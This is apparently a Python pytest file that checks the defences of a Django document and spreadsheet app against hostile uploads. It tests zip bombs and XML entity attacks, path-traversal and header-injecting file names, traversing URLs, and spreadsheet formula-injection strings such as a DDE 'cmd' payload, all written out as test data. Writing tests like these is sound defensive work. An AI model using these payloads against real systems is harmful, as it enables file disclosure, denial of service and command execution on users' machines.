"""Files made to hurt: refused with a sentence within seconds and little memory, nothing changed, nothing left behind."""

import csv
import io
import os
import resource as limits
import time
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from guatu.kernel import documents, exports, imports, uploads
from guatu.kernel.errors import Refused
from guatu.kernel.models import Document
from guatu.kernel.recording import head
from guatu.kernel.registry import resource
from guatu.kernel.scope import Actor, Scope
from guatu.projects.models import Project
from tests.guests import bombs, two_zones

pytestmark = [pytest.mark.django_db(databases=["default", "progress"])]

#: More memory than this for one file is an attack that worked.
MOST_MEMORY = 400 << 20


@pytest.fixture(scope="module")
def tricks():
    return bombs.workbooks()


def grown(act) -> int:
    """Bytes by which the peak of this process's memory grew."""
    before = limits.getrusage(limits.RUSAGE_SELF).ru_maxrss
    act()
    return (limits.getrusage(limits.RUSAGE_SELF).ru_maxrss - before) << 10


@pytest.mark.parametrize("trick", list(bombs.NAMES))
def test_a_workbook_that_hurts_is_refused_by_the_import(system, tricks, trick, tmp_path):
    """The small ones that only confuse may be read as an odd sheet; none is written, none takes memory or time."""
    file = tmp_path / "bomb.xlsx"
    file.write_bytes(tricks[trick])
    assert file.stat().st_size < 10 << 20
    before, began, said = head().hash, time.monotonic(), []

    def read():
        try:
            said.append(imports.run(system, resource("projects"), file, "账.xlsx"))
        except Refused as refused:
            said.append({"ok": False, "sentence": str(refused)})

    assert grown(read) < MOST_MEMORY
    assert time.monotonic() - began < 60
    assert head().hash == before and "root:" not in str(said)
    if said[0]["ok"]:
        assert said[0]["created"] + said[0]["updated"] == 0
        assert trick == "a workbook that points to a file outside"  # whose own sheet is sound, and whose path is not used
    else:
        told = said[0].get("sentence") or said[0]["errors"][0]["message"]
        assert told and "Traceback" not in told


def test_bombs_sent_through_the_page_leave_nothing(zones, tricks):
    client, before = zones.client("north"), head().hash
    for trick in ("3 GB that says it is 10 bytes", "billion laughs", "external entity of a file", "an archive cut in half"):
        upload = SimpleUploadedFile("账.xlsx", tricks[trick])
        page = client.post("/r/projects/import/", {"file": upload}, follow=True)
        assert page.status_code in (200, 422) and "root:" not in page.content.decode()
        assert "Traceback" not in page.content.decode()
    assert head().hash == before


@pytest.mark.parametrize("trick", list(bombs.NAMES))
def test_a_workbook_that_hurts_is_kept_or_refused_as_a_document(zones, tricks, trick):
    """Kept documents are never opened here; what is refused says why."""
    page = zones.client("north").post(
        f"/r/projects/{zones.rows['north'][Project].pk}/documents/",
        {"file": SimpleUploadedFile("账.xlsx", tricks[trick]), "kind": documents.kinds_for(Project)[0][0]}, follow=True)
    assert page.status_code == 200 and "Traceback" not in page.content.decode()


RANDOM = [os.urandom(2000), b"", b"\x00" * 5000, b"PK\x03\x04" + os.urandom(3000), b"\xd0\xcf\x11\xe0" + os.urandom(4000),
          b"%PDF-" + os.urandom(500), b"\xff\xfe" + os.urandom(1001), b"\xef\xbb\xbf" + b'"' * 4001, b"a," * 200_000,
          ("名称\n" + "\ud7ff" * 100).encode(), b'"unclosed\n' * 500, b"<?xml version='1.0'?>" + bombs.LAUGHS.encode()]


@pytest.mark.parametrize("content", RANDOM, ids=range(len(RANDOM)))
def test_random_bytes_as_a_sheet_and_as_a_document(zones, content):
    client = zones.client("north")
    for name in ("账.xlsx", "账.csv", "账.pdf", "账.zip"):
        before = head().hash
        page = client.post("/r/projects/import/", {"file": SimpleUploadedFile(name, content)}, follow=True)
        assert page.status_code in (200, 422), (name, page.status_code)
        assert head().hash == before
        page = client.post(f"/r/projects/{zones.rows['north'][Project].pk}/documents/",
                           {"file": SimpleUploadedFile(name, content), "kind": "photo"}, follow=True)
        assert page.status_code == 200


# -- names ---------------------------------------------------------------------------------------------------------

NAMES = [
    "../../etc/passwd.pdf", "/etc/passwd.pdf", "..\\..\\windows\\system32\\x.pdf", "C:\\x.pdf", "a/b/c.pdf", "x\x00.exe.pdf",
    "CON.pdf", "NUL.pdf", "合同\u202efdp.exe.pdf", "x\r\nSet-Cookie: a=b.pdf", 'x"; filename="evil.pdf', "甲" * 500 + ".pdf",
    ".pdf", "..pdf", "~/.ssh/x.pdf", "%2e%2e%2fx.pdf", "<script>alert(1)</script>.pdf", "-rf.pdf", "x.pdf/../../y.pdf",
    "=cmd|' /C calc'!A0.pdf",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_file_name_reaches_no_path_and_no_header(zones, name):
    client = zones.client("north")
    kept = set(Path(settings.GUATU_HOME).rglob("*"))
    upload = io.BytesIO(b"%PDF-1.4 x")
    boundary = "xxBOUNDARYxx"
    quoted = name.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22") if "\n" in name else name
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n"
            f"{documents.kinds_for(Project)[0][0]}\r\n--{boundary}\r\n"
            f"Content-Disposition: form-data; name=\"file\"; filename=\"{quoted}\"\r\n"
            "Content-Type: application/pdf\r\n\r\n").encode() + upload.getvalue() + f"\r\n--{boundary}--\r\n".encode()
    page = client.post(f"/r/projects/{zones.rows['north'][Project].pk}/documents/", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")
    assert page.status_code in (302, 400, 422)
    assert all(path.is_relative_to(settings.GUATU_HOME) for path in set(Path(settings.GUATU_HOME).rglob("*")) - kept)
    document = Document.everything.order_by("-pk").first()
    if document.file_name != f"{two_zones.MARK}.pdf":
        assert not set(document.file_name) & set("/\\\x00\r\n"), document.file_name
        answer = client.get(f"/documents/{document.pk}/")
        assert answer.status_code == 200
        disposition = answer["Content-Disposition"]
        assert disposition.startswith("attachment") and "\n" not in disposition and "\r" not in disposition
        assert answer["X-Content-Type-Options"] == "nosniff" and "sandbox" in answer["Content-Security-Policy"]


def test_addresses_of_files_reach_no_path(zones):
    client = zones.client("admin")
    for path in ("/documents/../../etc/passwd", "/documents/..%2f..%2fetc%2fpasswd/", "/jobs/..%2f1/file/",
                 "/static/../guatu.sqlite3", "/static/..%2f..%2fdemo-secret", "/static/%2e%2e/%2e%2e/demo-secret",
                 "/r/../../x/", "/r/projects/export/..%2f..%2fx/", "/r/projects/export/exe/", "/static//etc/passwd"):
        answer = client.get(path)
        assert answer.status_code in (301, 302, 400, 404, 422), (path, answer.status_code)
    assert uploads.folder().is_relative_to(settings.GUATU_HOME)


# -- formulas ------------------------------------------------------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "=HYPERLINK(\"http://x\",\"y\")", "'=1", "''=1",
            "=WEBSERVICE(\"http://x/\"&A1)", "\r=1", "|calc", ";=1", "＝1+1"]


def test_texts_that_begin_a_formula_leave_harmless_and_come_back_as_they_were(system, zones, tmp_path):
    from guatu.kernel import actions

    project = Project.everything.get(pk=zones.rows["north"][Project].pk)
    kinds = {"csv": exports, "xlsx": exports}
    for number, text in enumerate(FORMULAS):
        actions.change(system, Project.everything.get(pk=project.pk), {"name": f"{number}", "note": text})
        for kind in kinds:
            out = tmp_path / f"{number}.{kind}"
            exports.write(resource("projects"), Scope.whole(), kind, out)
            if kind == "csv":
                cells = [cell for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"))) for cell in row]
                live = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
                        or (cell[:1] == "-" and not cell[1:].replace(".", "").isdigit())]
                assert not live, (text, live)
            else:
                with zipfile.ZipFile(out) as book:
                    assert not any(b"<f>" in book.read(name) or b"<f " in book.read(name)
                                   for name in book.namelist() if "worksheets/" in name)
            said = imports.run(Actor.system("import"), resource("projects"), out, out.name)
            assert said["ok"] and said["updated"] == 0, (text, kind, said)
        stored = Project.everything.get(pk=project.pk).note
        assert stored == text.replace("\r", "\n").strip() or stored == text, (text, stored)
